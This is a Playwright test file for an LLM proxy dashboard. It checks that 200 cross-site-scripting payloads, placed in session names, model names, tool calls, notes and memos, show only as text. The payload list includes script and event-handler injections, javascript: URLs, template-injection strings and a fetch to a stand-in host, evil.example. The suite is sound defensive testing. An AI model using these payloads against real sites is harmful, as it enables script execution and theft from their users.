"""200 texts that would run if anything read them as markup, wherever a stranger's words can get: none of them does."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import TYPE_CHECKING
from urllib.parse import quote

import pytest

from tests.web.dashboard.screen import ProxyWithKeys, Screen, open_page, run_proxy_with_keys

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Dialog, Request

pytestmark = pytest.mark.slow

RUN = ("window.pwned=1", "alert(1)", "top.pwned=1", "fetch(`//evil.example`)")
SHAPES = r"""
<script>{0}</script>
</script><script>{0}</script>
<img src=x onerror='{0}'>
"><img src=x onerror="{0}">
<svg onload='{0}'>
<svg><script>{0}</script></svg>
<svg><animate onbegin='{0}' attributeName=x dur=1s>
<iframe srcdoc='<script>parent.{0}</script>'></iframe>
<iframe src='javascript:parent.{0}'></iframe>
<a href='javascript:{0}'>click</a>
[click](javascript:{0})
javascript:{0}
<body onload='{0}'>
<details open ontoggle='{0}'>
<video><source onerror='{0}'></video>
<input autofocus onfocus='{0}'>
<math><mtext><table><mglyph><style><img src=x onerror='{0}'></style></mglyph></table></mtext></math>
<object data='javascript:{0}'></object>
<embed src='javascript:{0}'>
<form action='javascript:{0}'><button>
<meta http-equiv=refresh content='0;url=javascript:{0}'>
<base href='javascript:{0}//'>
<link rel=stylesheet href='data:text/css,*{{x:expression({0})}}'>
<style>@import 'javascript:{0}';</style>
<div style='background:url(javascript:{0})'>
{{{{constructor.constructor('{0}')()}}}}
${{{0}}}
<%= {0} %>
'-{0}-'
\";{0};//
</title><script>{0}</script>
</textarea><script>{0}</script>
<!--><script>{0}</script>-->
<xmp><p title="</xmp><script>{0}</script>">
<template><script>{0}</script></template>
<noscript><p title="</noscript><img src=x onerror='{0}'>">
&lt;script&gt;{0}&lt;/script&gt;
<img src=x onerror=&#x61;lert(1) {0}>
<a href='data:text/html,<script>{0}</script>'>x</a>
=HYPERLINK("javascript:{0}")
(RLO)<script>{0}</script>
<ScRiPt>{0}</sCrIpT>
<svg/onload={0}>
<img src='x' onerror(TAB)=(TAB)'{0}'>
<marquee onstart='{0}'>
<button popovertarget=x onclick='{0}'>
<context-manager-widget session="<img src=x onerror='{0}'>">
`${{{0}}}`
<plaintext><script>{0}</script>
__proto__[innerHTML]=<img src=x onerror='{0}'>
"""
"""One a line."""
PAYLOADS = [
    shape.replace("(RLO)", "\u202e").replace("(TAB)", "\t").format(run)
    for shape in SHAPES.split("\n")[1:-1]
    for run in RUN
]


@pytest.fixture(scope="module")
def proxy(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ProxyWithKeys]:
    """Each payload is a session's name, a model's name and what was said in it; and all are in one conversation, as
    what the user, the model, its calls and tools said, and as state, note, scratchpad and memo."""
    with run_proxy_with_keys(tmp_path_factory.mktemp("hostile"), policy="thrifty") as made:
        for n, payload in enumerate(PAYLOADS):
            made.model.answers[:] = [payload]
            name = payload.encode("latin-1", "replace").decode("latin-1").replace("\n", " ")
            made.say(f"{n} {name}", payload, model=payload)
        crowd(made)
        yield made


def crowd(made: ProxyWithKeys) -> None:
    """The one conversation."""
    history = made.histories.setdefault("crowd", [{"role": "system", "content": "\n".join(PAYLOADS)}])
    for n, payload in enumerate(PAYLOADS[:-1]):
        function = {"name": payload, "arguments": payload if n % 2 else json.dumps({payload: payload})}
        call = {"id": f"call-{n}", "type": "function", "function": function}
        if n % 20 == 0:
            history.append({"role": "user", "content": payload, "name": f"user_{n}"})
        history.append({"role": "assistant", "content": payload, "reasoning_content": payload, "tool_calls": [call]})
        history.append({"role": "tool", "tool_call_id": f"call-{n}", "name": payload, "content": f"{payload}\n" * 60})
    parts = [{"type": "text", "text": p} for p in PAYLOADS[-20:]]
    history.append({"role": "user", "content": [*parts, {"type": "image_url", "image_url": {"url": PAYLOADS[11]}}]})
    made.model.answers[:] = [PAYLOADS[0]]
    made.say("crowd", None, model=PAYLOADS[2])
    text = "\n".join(PAYLOADS[:80])
    for path, method in (("state", "PUT"), ("scratchpad", "PUT"), ("notes", "POST"), ("feedback", "POST")):
        status, body = made.ask(method, f"/api/sessions/crowd/{path}", {"text": text[:950]})
        assert status == 200, body
    for n in range(20):
        made.memo(f"{PAYLOADS[n * 7]} and {PAYLOADS[n]}", f"{n} {PAYLOADS[n * 3]}")
    made.ask("POST", "/api/sessions/crowd/compress")
    made.say("crowd", PAYLOADS[5], model=PAYLOADS[2])
    group = made.get("/sessions/crowd/groups")["items"][0]["id"]
    made.ask("POST", f"/api/sessions/crowd/groups/{group}/drop")


def unharmed(screen: Screen) -> None:
    """Nothing ran, nothing was asked of elsewhere, and no element came of a text."""
    screen.well()
    page = screen.page
    assert page.evaluate("window.pwned") is None
    known = page.evaluate("document.querySelectorAll('script, iframe, object, embed, base, style, template').length")
    assert known == 3, "theme.js, the chart library and main.js"
    assert page.evaluate("document.querySelectorAll('img').length") == 1
    attributes = (
        "[...document.querySelectorAll('*')].flatMap((e) => e.getAttributeNames()).filter((n) => /^on/.test(n))"
    )
    assert page.evaluate(attributes) == []
    links = "[...document.links].map((a) => a.getAttribute('href')).filter((a) => !a.startsWith('#'))"
    assert page.evaluate(links) == []


@pytest.fixture
def watched(browser: Browser, proxy: ProxyWithKeys) -> Iterator[Screen]:
    with open_page(browser, proxy) as screen:
        home = f"http://127.0.0.1:{proxy.proxy.port}/"

        def opened(dialog: Dialog) -> None:
            screen.complaints.append(dialog.message)
            dialog.dismiss()

        def asked(request: Request) -> None:
            if not request.url.startswith(home):
                screen.complaints.append(request.url)

        screen.page.on("dialog", opened)
        screen.page.on("request", asked)
        yield screen
        unharmed(screen)


def test_there_are_two_hundred_hostile_texts() -> None:
    assert len(set(PAYLOADS)) == 200


def test_names_of_sessions_and_models_in_the_list(watched: Screen) -> None:
    watched.go("#/", ".sessions")
    for page in range(2, 10):
        watched.click("button:text-is('Show more')")
        watched.page.wait_for_selector(f".sessions tbody tr:nth-child({min(25 * page - 24, 201)})")
    assert watched.page.locator(".sessions tbody tr").count() == 201
    text = watched.page.inner_text(".sessions")
    assert "<script>window.pwned=1</script>" in text
    unharmed(watched)
    watched.go("#/money", ".plain")


def test_sessions_whose_names_are_hostile_open(watched: Screen) -> None:
    lines = watched.stage.get("/live?limit=50")["items"]
    for line in lines[1:50:8]:
        watched.go(f"#/s/acme/{quote(line['address'], safe='')}", ".line-title")
        watched.click(".line-title")
        watched.page.wait_for_selector(".message")
        unharmed(watched)


def test_messages_calls_and_results_in_the_strip_and_its_groups(watched: Screen) -> None:
    watched.go("#/s/acme/crowd", ".line-title")
    for bar in range(3):
        watched.page.locator(".strip button").nth(bar).hover()
        watched.page.locator(".strip button").nth(bar).click()
        watched.page.wait_for_selector(".line.open .message")
        unharmed(watched)
    for fold in watched.page.locator(".said button").all()[:10]:
        fold.click()


@pytest.mark.parametrize("prompt", ["next", "newest"])
def test_hostile_texts_in_prompts_and_differences_do_not_run(watched: Screen, prompt: str) -> None:
    newest = watched.stage.get("/sessions/crowd/exchanges?limit=1")["items"][0]["exchange"]
    watched.go(f"#/s/acme/crowd/prompts/{newest if prompt == 'newest' else 'next'}", ".pair")
    folded = watched.page.locator(".unchanged > button")
    while folded.count():  # some fetch their messages first: none is clicked twice
        button = folded.first.element_handle()
        button.click()
        button.wait_for_element_state("hidden")
    assert "onerror" in watched.page.inner_text(".prompt")


@pytest.mark.parametrize(
    ("place", "wait"),
    [
        ("#/s/acme/crowd/told", ".notes li pre"), ("#/s/acme/crowd/costs", ".chart"),
        ("#/s/acme/crowd/settings", "h2:text-is('Data')"), ("#/memos", ".memo"),
        ("#/search/onerror", ".hits"), ("#/s/acme/crowd/latency", ".chart"),
        (f"#/s/acme/{quote(PAYLOADS[0], safe='')}", ".panel"), (f"#/{quote(PAYLOADS[2], safe='')}", ".panel"),
    ],
)  # fmt: skip
def test_hostile_texts_in_injections_money_settings_memos_and_addresses(watched: Screen, place: str, wait: str) -> None:
    watched.go(place, wait)
    if PAYLOADS[0] in place or "script" in place:
        watched.complaints[:] = [one for one in watched.complaints if "404" not in one]


def test_the_widget_shows_text_as_text(browser: Browser, proxy: ProxyWithKeys) -> None:
    (line,) = proxy.get(f"/live?q={quote('0 <script>', safe='')}")["items"]
    with open_page(browser, proxy, bypass_csp=True) as screen:
        screen.go("#/", ".sessions")
        screen.page.evaluate(proxy.ask("GET", "/dashboard/widget.js")[1].decode())
        shown = """async (session) => {
            const one = document.createElement("context-manager-widget");
            one.setAttribute("key", "cp-admin");
            one.setAttribute("session", session);
            document.body.append(one);
            await one.refresh();
            one._say("<img src=x onerror='window.pwned=1'>", "bad");
            one.render();
            return [one.shadowRoot.textContent, one.shadowRoot.querySelectorAll("img, script").length];
        }"""
        text, made = screen.page.evaluate(shown, line["session"])
        assert "<script>window.pwned=1</script>" in text
        assert "<img src=x onerror='window.pwned=1'>" in text
        assert made == 0
        assert screen.page.evaluate("window.pwned") is None
